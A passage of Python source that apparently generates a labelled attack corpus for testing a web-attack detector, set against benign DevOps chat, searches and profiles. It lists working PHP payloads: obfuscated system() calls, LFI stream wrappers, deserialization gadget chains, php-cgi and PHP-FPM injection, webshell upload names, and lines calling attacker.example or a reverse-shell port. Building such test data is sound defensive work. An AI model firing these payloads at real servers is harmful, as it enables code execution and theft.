    "$x=base64_decode('" + b64("system") + "');$x('id');",
    "('sy'.'stem')('id');",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id');",
    "('\\163\\171\\163\\164\\145\\155')('whoami');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "${'_'.'GET'}[0](${'_'.'GET'}[1]);",
    "$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);",
    ("code=(~%8F%97%8F%96%91%99%90)();", "raw-query", "rs-raw-query"),
    "$GLOBALS['_GET']['a']($GLOBALS['_GET']['b']);",
    "{${system('id')}}",
    "${@system('id')}",
    "${@print(md5('commix'))}",
    "$x=\"assert\";$x($_POST['x']);",
    "$f=$_GET['f'];$f($_GET['c']);",
    "$a=explode(',','sys,tem');$b=implode('',$a);$b('id');",
    "@$_POST['x']($_POST['y']);",
    "$_COOKIE['a']($_COOKIE['b']);",
    "$k=\"s\".\"y\".\"s\".\"t\".\"e\".\"m\";$k(\"id\");",
    "(new ReflectionFunction('system'))->invoke('id');",
    "$c=\"\\x70\\x61\\x73\\x73\\x74\\x68\\x72\\x75\";$c('id');",
    "[\"sys\".\"tem\"][0](\"id\");",
    "$_GET[0]($_GET[1]);",
]

# php-wrappers / LFI tools (Kadimus, LFISuite, fimap, the php_filter_chain_generator) and Nuclei LFI templates:
# stream wrappers handed to include()/file_get_contents() (PHP interpreter)
WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=wp-config.php",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.base64-decode|convert.base64-encode|"
    "convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
    "php://filter/resource=http://attacker.example/shell.txt",
    "php://input",
    "php://stdin",
    "data://text/plain;base64," + b64(SHELL),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + b64("<?php phpinfo();?>"),
    "expect://id",
    "expect://ls -la /var/www",
    "phar://./uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/uploads/2024/06/invoice.pdf/x",
    "zip://uploads/archive.zip#shell.php",
    "zip:///var/www/html/uploads/avatar.zip#cmd",
    "glob:///var/www/html/*",
    "compress.zlib:///etc/passwd",
    "ssh2.exec://user:pass@127.0.0.1:22/id",
    "rar://uploads/x.rar#shell.php",
]

# php-object-injection / PHPGGC gadget chains (plain, ASCII-escaped -a, fast-destruct -f, base64 in a cookie),
# the classic cookie-auth objects and the Joomla 1.5-3.4 session injection (PHP unserialize(); Monolog, Laravel,
# Guzzle, Symfony, Yii2, CodeIgniter4, SwiftMailer, WordPress/Requests, Joomla)
MONOLOG1 = obj("Monolog\\Handler\\SyslogUdpHandler", (prot("socket"), obj(
    "Monolog\\Handler\\BufferHandler", (prot("handler"), "r:2;"), (prot("bufferSize"), "i:-1;"),
    (prot("buffer"), arr("a:2:{i:0;" + ps("id") + ps("level") + "N;}")), (prot("level"), "N;"),
    (prot("initialized"), "b:1;"), (prot("bufferLimit"), "i:-1;"),
    (prot("processors"), arr(ps("current"), ps("system"))))))
MONOLOG2 = obj("Monolog\\Handler\\SyslogUdpHandler", (prot("socket"), obj(
    "Monolog\\Handler\\BufferHandler", (prot("handler"), "r:2;"), (prot("bufferSize"), "i:-1;"),
    (prot("buffer"), arr("a:2:{s:7:\"message\";" + ps("cat /etc/passwd") + ps("level") + "i:100;}")),
    (prot("level"), "N;"), (prot("initialized"), "b:1;"), (prot("bufferLimit"), "i:-1;"),
    (prot("processors"), arr(ps("current"), ps("passthru"))))))
LARAVEL1 = obj("Illuminate\\Broadcasting\\PendingBroadcast",
               (prot("events"), obj("Faker\\Generator", (prot("formatters"), amap(("dispatch", ps("system")))))),
               (prot("event"), ps("id")))
LARAVEL2 = obj("Illuminate\\Broadcasting\\PendingBroadcast",
               (prot("events"), obj("Illuminate\\Events\\Dispatcher",
                                    (prot("listeners"), amap(("uname -a", arr(ps("system"))))))),
               (prot("event"), ps("uname -a")))
GUZZLE = obj("GuzzleHttp\\Cookie\\FileCookieJar",
             (priv("GuzzleHttp\\Cookie\\CookieJar", "cookies"), arr(obj(
                 "GuzzleHttp\\Cookie\\SetCookie", (priv("GuzzleHttp\\Cookie\\SetCookie", "data"), amap(
                     ("Expires", "i:1;"), ("Discard", "b:0;"), ("Value", ps("<?php system($_GET[0]); ?>"))))))),
             (priv("GuzzleHttp\\Cookie\\CookieJar", "strictMode"), "N;"),
             (priv("GuzzleHttp\\Cookie\\FileCookieJar", "filename"), ps("/var/www/html/s.php")),
             (priv("GuzzleHttp\\Cookie\\FileCookieJar", "storeSessionCookies"), "b:1;"))
SYMFONY = obj("Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter",
              (priv("Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter", "deferred"), arr(obj(
                  "Symfony\\Component\\Cache\\CacheItem", (prot("poolHash"), ps("1")),
                  (prot("innerItem"), ps("id"))))),
              (priv("Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter", "pool"), obj(
                  "Symfony\\Component\\Cache\\Adapter\\ProxyAdapter",
                  (priv("Symfony\\Component\\Cache\\Adapter\\ProxyAdapter", "poolHash"), ps("1")),
                  (priv("Symfony\\Component\\Cache\\Adapter\\ProxyAdapter", "setInnerItem"), ps("system")))))
YII2 = obj("yii\\db\\BatchQueryResult", (priv("yii\\db\\BatchQueryResult", "_dataReader"), obj(
    "Faker\\Generator", (prot("formatters"), amap(("close", arr(obj(
        "yii\\rest\\CreateAction", ("checkAccess", ps("system")), ("id", ps("id"))), ps("run"))))))))
CI4 = obj("CodeIgniter\\Cache\\Handlers\\RedisHandler", (prot("prefix"), ps("")), (prot("redis"), obj(
    "CodeIgniter\\Session\\Handlers\\MemcachedHandler", (prot("lockKey"), ps("id")), (prot("memcached"), obj(
        "CodeIgniter\\Model", (prot("builder"), obj("CodeIgniter\\Database\\BaseBuilder")),
        (prot("beforeDelete"), arr(ps("validate"))), (prot("validation"), obj(
            "CodeIgniter\\Validation\\Validation", (prot("rules"), amap(("id", arr(ps("system"))))))))))))
SWIFT = obj("Swift_ByteStream_TemporaryFileByteStream",
            (priv("Swift_ByteStream_FileByteStream", "path"), ps("/var/www/html/s.php")),
            (priv("Swift_ByteStream_FileByteStream", "mode"), ps("w+b")),
            (priv("Swift_ByteStream_AbstractFilterableInputStream", "writeBuffer"), ps(SHELL)))
WP_REQUESTS = custom("Requests_Utility_FilteredIterator",
                     "x:i:0;a:1:{i:0;" + ps("id") + "};m:a:1:{" + ps(prot("callback")) + ps("system") + "}")
USER_ADMIN = obj("User", ("username", ps("administrator")), ("isAdmin", "b:1;"))
JOOMLA = ("}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"\\0\\0\\0"
          "disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";O:20:\"JDatabaseDriverMysql\""
          ":0:{}s:8:\"feed_url\";s:37:\"phpinfo();JFactory::getConfig();exit;\";s:19:\"cache_name_function\";s:6:"
          "\"assert\";s:5:\"cache\";b:1;s:11:\"cache_class\";O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}"
          "s:13:\"\\0\\0\\0connection\";b:1;}")

OBJECT: list[Entry] = [
    MONOLOG1,
    MONOLOG2,
    LARAVEL1,
    LARAVEL2,
    GUZZLE,
    SYMFONY,
    YII2,
    CI4,
    SWIFT,
    WP_REQUESTS,
    ascii_strings(MONOLOG1.replace(ps("id"), ps("whoami"))),
    ascii_strings(LARAVEL1.replace(ps("id"), ps("cat /etc/passwd"))),
    "a:2:{i:7;" + LARAVEL1.replace(ps("id"), ps("touch /tmp/pwn")) + "i:7;i:7;}",
    custom("ArrayObject", "x:i:0;" + LARAVEL1.replace(ps("id"), ps("hostname")) + ";m:a:0:{}"),
    (b64(LARAVEL1.replace(ps("id"), ps("curl http://c8s2k1.oast.fun/"))), *COOKIE),
    (b64(USER_ADMIN), *COOKIE),
    (b64(MONOLOG1), *COOKIE),
    USER_ADMIN,
    obj("User", ("username", ps("admin")), ("access_token", "b:1;")),
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "O:+4:\"User\":2:{s:8:\"username\";s:13:\"administrator\";s:7:\"isAdmin\";b:1;}",
    obj("Logger", ("logFile", ps("/var/www/html/s.php")), ("logData", ps(SHELL))),
    "a:1:{i:0;O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}}",
    (JOOMLA, *UA_HDR),
]

# php-config-directives / php-cgi argument injection (CVE-2012-1823, CVE-2024-4577 best-fit soft hyphen) as Nuclei
# and Metasploit send it, PHuiP-FPizdaM's PHP_VALUE chain (CVE-2019-11043, PHP-FPM behind nginx), .user.ini and
# .htaccess upload pivots, and ini_set()/putenv() through an eval sink (Chankro-style disable_functions bypass)
CONFIG: list[Entry] = [
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", *CGI),
    ("-s", *CGI),
    ("-d+allow_url_include%3don+-d+safe_mode%3doff+-d+suhosin.simulation%3don+-d+disable_functions%3d%22%22+"
     "-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp%3a//input+-d+cgi.force_redirect%3d0+"
     "-d+cgi.redirect_status_env%3d0+-n", *CGI),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *CGI),
    ("%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+"
     "%ADd+auto_prepend_file%3dphp://input", *CGI),
    ("-d+auto_prepend_file%3d/etc/passwd+-n", *CGI),
    ("-dallow_url_include%3d1+-dauto_prepend_file%3dhttp://attacker.example/s.txt", *CGI),
    ("PHP_VALUE%0Ashort_open_tag=1;;;;;;;?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ", *FPM),
    ("PHP_VALUE%0Aerror_log=/tmp/a;;;;;;?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ", *FPM),
    ("PHP_VALUE%0Aextension_dir=%22%3C%3F=%60%22;;;?QQQQQQQQQQQQQQQQQQQQQQQ", *FPM),
    ("PHP_VALUE%0Aauto_prepend_file=a;;;;?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ", *FPM),
    ("PHP_VALUE%0Asession.auto_start=1;;;?QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ", *FPM),
    ("auto_prepend_file=avatar.gif", *FILE),
    ("auto_append_file=/var/www/html/uploads/x.jpg", *FILE),
    ("php_value auto_prepend_file \"/var/www/html/uploads/shell.jpg\"", *FILE),
    ("AddType application/x-httpd-php .jpg", *FILE),
    ("<FilesMatch \"\\.jpg$\">\nSetHandler application/x-httpd-php\n</FilesMatch>", *FILE),
    ("php_flag engine on\nAddHandler php7-script .txt", *FILE),
    ("php_value auto_append_file \"php://filter/convert.base64-decode/resource=shell.gif\"", *FILE),
    "ini_set('allow_url_include','1');include($_GET['u']);",
    "ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_restore('open_basedir');ini_restore('disable_functions');",
    "putenv('LD_PRELOAD=/tmp/chankro.so');mail('a@example.com','','','','');",
    "ini_set('display_errors','1');ini_set('error_log','/var/www/html/e.php');",
    kv("PHP_VALUE=auto_prepend_file=php://input&PHP_ADMIN_VALUE=allow_url_include=On", "form", "rs-form"),
]

# php-superglobals / eval-sink payloads reading or calling through $_GET/$_POST/$_REQUEST/$_COOKIE/$_SERVER/
# $_FILES/$GLOBALS, and register_globals/extract() overwrites sent as raw parameters (PHP interpreter, legacy PHP
# applications)
SUPERGLOBALS: list[Entry] = [
    "eval($_POST['cmd']);",
    "assert($_REQUEST['x']);",
    "system($_GET['c']);",
    "echo $_SERVER['DOCUMENT_ROOT'];",
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "var_dump($GLOBALS);",
    "print_r($_COOKIE);",
    "print_r($_SESSION);",
    "include($_GET['file']);",
    "require_once($_REQUEST['inc']);",
    "file_put_contents($_GET['f'],$_POST['d']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    "extract($_GET);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "echo `$_GET[c]`;",
    "eval($HTTP_RAW_POST_DATA);",
    "eval(file_get_contents('php://input'));",
    "eval($_SERVER['HTTP_USER_AGENT']);",
    "system($_COOKIE['cmd']);",
    kv("_SESSION[admin]=1"),
    kv("_SESSION[user_id]=1&_SESSION[logged_in]=true", "form", "rs-form"),
    kv("GLOBALS[_SERVER][DOCUMENT_ROOT]=http://attacker.example/"),
    kv("_SERVER[DOCUMENT_ROOT]=http://attacker.example/shell.txt?", "form", "rs-query"),
    kv("_COOKIE[auth]=1&_SESSION[role]=admin"),
    kv("GLOBALS[config][db_host]=attacker.example", "form", "rs-form"),
]

# php-file-upload / fuxploider and Burp Upload Scanner name permutations: script extensions, double extensions,
# case, NUL and trailing-character tricks, IIS/Windows quirks, server-config files, well-known shell names (the PHP
# handler of the web server serving the uploads folder)
UPLOAD: list[Entry] = [(name, *UP) for name in [
    "shell.php", "cmd.php5", "shell.phtml", "shell.phar", "shell.php.jpg", "avatar.jpg.php", "shell.pHp",
    "shell.php%00.jpg", "shell.php\x00.jpg", "shell.php.", "shell.php::$DATA", "shell.php ", "shell.php;.jpg",
    ".htaccess", ".user.ini", "shell.pht", "shell.php7", "shell.phps", "shell.php4", "shell.phtm", "shell.pgif",
    "shell.inc", "../../../var/www/html/shell.php", "shell.p.phphp", "c99.php", "wso.php", "image.jpg.pHP5",
]]

# php-high-risk-function-names / the primitives a tester calls by name once commix or Nuclei confirmed an eval()
# sink: information leaks, file read/write/list, sockets, loaders, packed code (PHP interpreter)
HIGHRISK: list[Entry] = [
    "phpinfo()",
    "phpversion();",
    "php_uname();",
    "file_get_contents('/etc/passwd')",
    "readfile('/etc/passwd');",
    "show_source('index.php');",
    "highlight_file('../config.php');",
    "fopen('/etc/passwd','r');",
    "print_r(scandir('/'));",
    "var_dump(glob('/home/*'));",
    "fsockopen('10.10.14.7',4444);",
    "stream_socket_client('tcp://10.10.14.7:4444');",
    "echo curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'));",
    "eval(gzinflate(base64_decode('" + deflate_b64("echo shell_exec('id');") + "')));",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "print_r(posix_getpwuid(posix_geteuid()));",
    "echo get_current_user().getcwd();",
    "print_r(ini_get_all());",
    "var_dump(get_defined_vars());",
    "symlink('/','/var/www/html/uploads/root');",
    "chmod('/var/www/html/uploads/s.php',0777);",
    "unlink('/var/www/html/.htaccess');",
    "copy('http://attacker.example/s.txt','/var/www/html/s.php');",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/e.php');",
    "dl('/tmp/ext.so');",
    "register_shutdown_function('system','id');",
    "fwrite(fopen('x.php','w'),'<?php eval($_POST[1]);?>');",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBXSS),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTMLINJ),
    ("xss", "svg-mathml", SVGMATH),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOMSINK),
    ("xss", "ie-filter-vectors", IEVEC),
    ("xss", "encoded-entity-vectors", ENCODED),
    ("xss", "angular-vue-client-template", CLIENTTPL),
    ("php", "php-open-tag", OPENTAG),
    ("php", "php-function-call", FUNCCALL),
    ("php", "php-variable-functions", VARFUNC),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT),
    ("php", "php-config-directives", CONFIG),
    ("php", "php-superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOAD),
    ("php", "php-high-risk-function-names", HIGHRISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    raw_tail = True
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body")
    kv_safe = "=&[]._-:/'*$!(),;{}~@"
    upload = "GIF89a\n" + SHELL + "\n"
    file_type = "image/gif"
    xss_names = ["q", "search", "name", "message", "redirect", "returnUrl", "callback", "comment", "title", "bio"]
    php_names = ["page", "file", "cmd", "code", "data", "template", "lang", "include", "action", "input"]
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.xss_names if category == "xss" else self.php_names
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def upload_body(self, filename: str) -> str:
        """What a webshell upload carries: the server-config pivots their directive, the rest a GIF-headed shell."""
        if filename == ".htaccess":
            return "AddType application/x-httpd-php .jpg\n"
        if filename == ".user.ini":
            return "auto_prepend_file=shell.jpg\n"
        return self.upload

    @staticmethod
    def config_name(content: str) -> str:
        """The server-config file an uploaded directive goes in."""
        return ".user.ini" if content.startswith("auto_") else ".htaccess"

    # the tool's own request where it only makes sense in one shape
    def _p_raw_query(self, p: Put) -> Record:   # the already-encoded query string (php-cgi argv)
        return _get("/api/users?" + p.v)

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.v)

    def _p_raw_path(self, p: Put) -> Record:   # the already-encoded path info (PHP-FPM PATH_INFO)
        return _get("/api/users/" + p.v)

    def _p_rs_raw_path(self, p: Put) -> Record:
        return request("GET", p.path.rstrip("/") + "/" + p.v)

    def _p_multipart_file(self, p: Put) -> Record:   # the directive as an uploaded file's content
        body = self.multipart([("csrf_token", "t0k3n", None), ("file", p.v, self.config_name(p.v))], "text/plain")
        return request("POST", "/admin/users/import", body, self.multipart_type)

    def _p_rs_multipart_file(self, p: Put) -> Record:
        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
        body = self.multipart([("file", p.v, self.config_name(p.v))], "text/plain")
        return request("POST", target, body, self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ================================================================================================================
# Benign: a QA/DevOps team that runs security scanners in CI, and ordinary users of the directory
# ================================================================================================================
CHAT = [
    # the scanner pipeline
    "nightly sqlmap job against staging finished, 0 injectable parameters, report is in the job artifacts",
    "Dalfox flagged /api/users?q= as reflected, but the response is JSON with the right content type. "
    "Marking it as a false positive",
    "can someone bump the nuclei templates in CI? we're still on 9.8 and the new CVE checks aren't in there",
    "commix timed out on the import endpoint again, I raised --timeout to 30 and it passed",
    "XSStrike crawl on staging took 40 minutes, limiting it with --crawl -l 2 from now on",
    "ZAP baseline scan is green for the admin panel, 2 warnings about CSP and one about cache headers",
    "we should exclude /healthz and /readyz from the ZAP spider, they inflate the URL count",
    "reminder: the scanners only run against staging, never prod. The target allowlist is in the pipeline vars",
    "the WAF blocked our own Nuclei run again. Did someone change the scanner runner's egress IP?",
    "PHPGGC lives in the pentest image only, it is not installed on the CI runners",
    "tplmap hasn't had a release in years, I'm switching the template-injection stage to SSTImap",
    "dotdotpwn job is disabled until we fix the flaky upload path test",
    "SSRFmap: we only run the portscan module in CI, the others stay manual",
    "ysoserial jar is pinned at 0.0.6 in the tools image, checksum in the Dockerfile",
    "NoSQLMap still needs Python 2, so it's out of the pipeline",
    "the scan report says 'reflected XSS (low confidence)' on the bio field, can someone take a look?",
    "triage notes: 3 findings, 2 duplicates from last week, 1 real one (missing HttpOnly on a dev cookie)",
    "ticket SEC-412: move the admin panel CSP from report-only to enforce",
    "php -v on the old runner still says 7.4, we need the 8.2 image before the composer audit job works",
    "composer audit found one advisory in a dev dependency, not shipped to prod",
    "why does the onload handler on the dashboard run twice? probably React strict mode in dev",
    "the analytics <script> tag moved to the footer in the last release",
    "renamed the report to zap-report-2024-06-12.html so the archive sorts by date",
    "about 50% of the nuclei findings are info-level tech detection, filtering with -severity medium,high,critical",
    "coverage went from 81% to 84% after the template tests landed",
    "pipeline is red: ruff complains about a line over 120 chars in the scanner wrapper",
    "who owns the Burp Suite Pro license? it expires on the 30th",
    "the scanner's UA is sec-ci-scanner/1.0, please allowlist it in the staging rate limiter",
    "for the record: eval() was removed from the formula feature in 3.2, it uses a proper parser now",
    "found an old backup.php.bak on the staging bucket, deleted it and rotated the creds in it",
    "the .htaccess files in the legacy repo are from the Apache days, we run nginx now",
    "nothing uses php://input any more, the PHP service was retired in 2022",
    "upload limit is 10 MB, anything bigger gets a 413 from the edge",
    "the AngularJS {{ }} bindings are gone since the rewrite to React, so that finding is obsolete",
    "Vue devtools shows the prop as undefined, I think the API renamed the field",
    "my CSP test page worked: the inline script was blocked and the violation report arrived",
    "PR #2311: bump dalfox to 2.9.2 and add --skip-bav to the nightly job",
    "sqlmap's --level 3 --risk 2 is the default in the weekly job; --risk 3 only with sign-off",
    "weekly scan: nothing new, 0 critical / 0 high / 2 medium (both accepted risks)",
    "the SARIF upload from nuclei shows up in the code scanning tab now",
    "Semgrep caught a raw innerHTML assignment in the help widget, fixed with textContent",
    "DOMPurify is already on the latest version, the advisory was for 2.x",
    "anyone know why the XSS job ran against localhost:5000 instead of the staging URL? env var typo?",
    "I'll demo the Dalfox pipeline mode at Thursday's guild meeting",
    "scanner rotation this week: Priya (Mon-Wed), Tom (Thu-Fri)",
    "Burp collaborator traffic from the scan is expected, don't page the SOC for it",
    "the serialized session format was replaced by signed JSON cookies last year",
    "gentle reminder to attach the scanner version to every finding ticket",
    # ordinary users
    "quick q: does the import accept .xlsx or only .csv?",
    "lunch at 12:30? the place with the 2-for-1 deal",
    "heads up, I'm out Friday, handing the on-call to Priya",
    "the phone regex is ^\\+?[0-9 ()-]{7,20}$ and it works for UK and DE numbers",
    "renamed the channel to #sec-scans, the old one is archived",
    "50% off the conference tickets until Sunday, code in the thread",
    "can we get the Q3 numbers (draft) by EOD? no rush if not",
    "my name shows as \"Jose\" instead of \"José\" in the directory, encoding issue?",
    "the printer on 3rd floor is out of toner :(",
    "congrats on the launch!!! <3",
    "reminder: all-hands moved to 4pm (not 3pm)",
    "[WIP] onboarding doc for new QA hires, comments welcome",
    "is the wifi password still the one on the whiteboard?",
    "C# or Java for the new integration service? I'd vote C#",
    "the meeting notes are in Confluence -> Team -> 2024 -> June",
    # bios
    "AppSec engineer. I run the scanners in CI (ZAP, Nuclei, Dalfox) and triage what they find.",
    "QA automation: Playwright, pytest and a bit of Burp. Coffee first.",
    "DevOps. GitLab CI, Terraform, and the occasional nginx config.",
    "PHP developer turned Go developer. Still miss array_map sometimes.",
    "Bug bounty hunter on weekends, mostly XSS and access-control bugs.",
    "Frontend dev, Vue 3 and TypeScript. Yes, I escape my templates.",
    "Security champion for the payments squad. Ask me about CSP.",
    "Pentester (OSCP, OSWE). I write the scan profiles and the exceptions list.",
    "SRE. On call every fourth week, pager-friendly hours otherwise.",
    "Support lead. If a customer says the search is broken, I'm the one who pings you.",
]

SEARCHES = [
    "sqlmap", "dalfox", "xss", "nuclei", "zap", "php", "script", "onload", "alert", "Ana-Maria", "O'Neil",
    "c#", "c++", "node.js", "vue", "angular", "upload", "report", "[qa]", "devops (berlin)", "team-sec",
    "john.doe@example.org", "100% remote", "php developer", "security champion", "scanner", "burp", "commix",
    "appsec", "pentest", "javascript", "typescript", "template", "filter", "svg", "iframe", "phar", "eval",
    "expression", "style", "d'angelo", "van der berg", "Zoë", "QA - contractors", "frontend/backend",
]

URLS = [
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/hahwul/dalfox",
    "https://dalfox.hahwul.com/docs/usage/",
    "https://github.com/s0md3v/XSStrike/wiki/Usage",
    "https://github.com/commixproject/commix/wiki",
    "https://docs.projectdiscovery.io/tools/nuclei/running",
    "https://www.zaproxy.org/docs/docker/baseline-scan/",
    "https://github.com/ambionics/phpggc",
    "https://github.com/vladko312/SSTImap",
    "https://github.com/swisskyrepo/SSRFmap",
    "https://github.com/frohoff/ysoserial",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://angular.dev/best-practices/security",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://gitlab.example.com/sec/pipelines/-/jobs/88123/artifacts/browse/reports/",
    "https://ci.example.com/job/nightly-dast/412/console",
    "https://jira.example.com/browse/SEC-412",
    "https://github.com/cure53/DOMPurify/releases",
    "https://semgrep.dev/r?q=javascript.browser.security.insecure-document-method",
    "https://portswigger.net/burp/documentation/scanner",
]

PROSE = [
    "Weekly DAST summary: 0 critical, 0 high, 2 medium (accepted), 14 info",
    "Nuclei run #412 - tech detection only, nothing exploitable",
    "Dalfox findings review (June)",
    "XSStrike vs. Dalfox comparison for the search field",
    "commix results: no injection points on /api/users",
    "sqlmap --batch --level 3 on staging: not injectable",
    "PHP 8.2 upgrade checklist",
    "upload filter: allow .csv and .xlsx, reject everything else",
    "CSP: script-src 'self'; object-src 'none'; base-uri 'none'",
    "scanner allowlist (staging only)",
    "how we triage scanner findings - a 5-step guide",
    "false positives we keep seeing (and why)",
    "ZAP baseline: warnings we accept",
    "SSTImap stage replaces tplmap in Q3",
    "PHPGGC and ysoserial: pentest image only",
    "retro: the night the WAF blocked our own scanner",
    "nginx config review - security headers",
    "onboarding: running the scan pipeline locally",
    "Burp Suite license renewal (due June 30)",
    "report archive naming: <tool>-<env>-<date>.html",
    "the #sec-scans channel FAQ",
    "release notes 3.2: formula parser replaces eval",
    "support macro: 'my bio looks weird after saving'",
    "Q3 OKRs - AppSec & QA",
    "team offsite (Lisbon) - agenda & travel",
    "100% of critical findings fixed within SLA",
    "JS style guide: no innerHTML, use textContent",
    "Vue 3 migration notes (templates, v-html usage)",
    "how to read a SARIF file",
    "incident 2024-05-17 post-mortem [draft]",
]

PROFILES = [
    ("José D'Alessandro", "Via Roma 1, Milano"),
    ("Mary-Kate O'Connor", "12 Harcourt St, Dublin 2"),
    ("Li (Leo) Wang", "88 Nanjing Rd, Shanghai"),
    ("Aisha Al-Farsi", "Al Khuwair St 7, Muscat"),
    ("Zap Couriers Ltd", "Unit 4, Brent Park, London NW10"),
    ("Vue Cinemas Leeds", "The Light, The Headrow, Leeds"),
    ("Angular Momentum Physics Club", "Campus Nord, Barcelona"),
    ("Nuclei Labs GmbH", "Torstraße 5, 10119 Berlin"),
    ("Priya Raman", "MG Road 88, Bengaluru"),
    ("Tom Script", "4 Elm Close, Reading"),
    ("Dalia Fox", "Rua das Flores 10, Porto"),
    ("Zoë van der Berg", "Prinsengracht 263, Amsterdam"),
    ("Scan & Print Co.", "Market St 200, San Francisco, CA"),
    ("Jean-Luc Picard-Dupont", "12 rue de Rivoli, 75001 Paris"),
    ("Burp's Brewery", "Canal Wharf 3, Manchester"),
    ("Eval Consulting", "King St W 100, Toronto"),
    ("Template House Design", "Queen St 21, Auckland"),
    ("Filter Coffee Bar", "Högbergsgatan 9, Stockholm"),
    ("Marco Polo (QA)", "Calle Mayor 5, Madrid"),
    ("Sam O'Neil-Smith", "Unit 3/14 George St, Sydney"),
]

UPLOAD_NAMES = [
    "zap-baseline-report-2024-06-12.html", "nuclei-results.sarif", "dalfox-output.txt",
    "sqlmap-staging-2024-06-10.zip", "xsstrike-crawl.log", "scan-summary (June).pdf", "team-roster.csv",
    "php-upgrade-plan.docx", "users_export_2024-06.csv", "onboarding - QA.pdf", "commix-results.json",
    "findings_triage_Q2.xlsx", "csp-violations-week24.csv", "burp-project-staging.burp", "profile photo.jpg",
    "avatar.png", "O'Connor_contract.pdf", "sec-guild-slides.pptx", "retro_2024-05-17.md",
    "semgrep-findings.json", "vue3-migration-notes.pdf", "nginx-headers-review.txt", "offsite-agenda (v2).docx",
    "directory-import-template.csv", "scanner-allowlist.yaml",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "GitLab-Runner 17.0.0 (17-0-stable; go1.22.3; linux/amd64)"),
    ("User-Agent", "Playwright/1.44.1 (x64; ubuntu 22.04) node/20.14"),
    ("Referer", "https://ci.example.com/job/nightly-dast/412/"),
    ("Referer", "https://github.com/hahwul/dalfox/releases"),
    ("Referer", "https://jira.example.com/browse/SEC-412?focusedCommentId=10231"),
    ("Referer", "https://www.google.com/search?q=vue+v-html+security"),
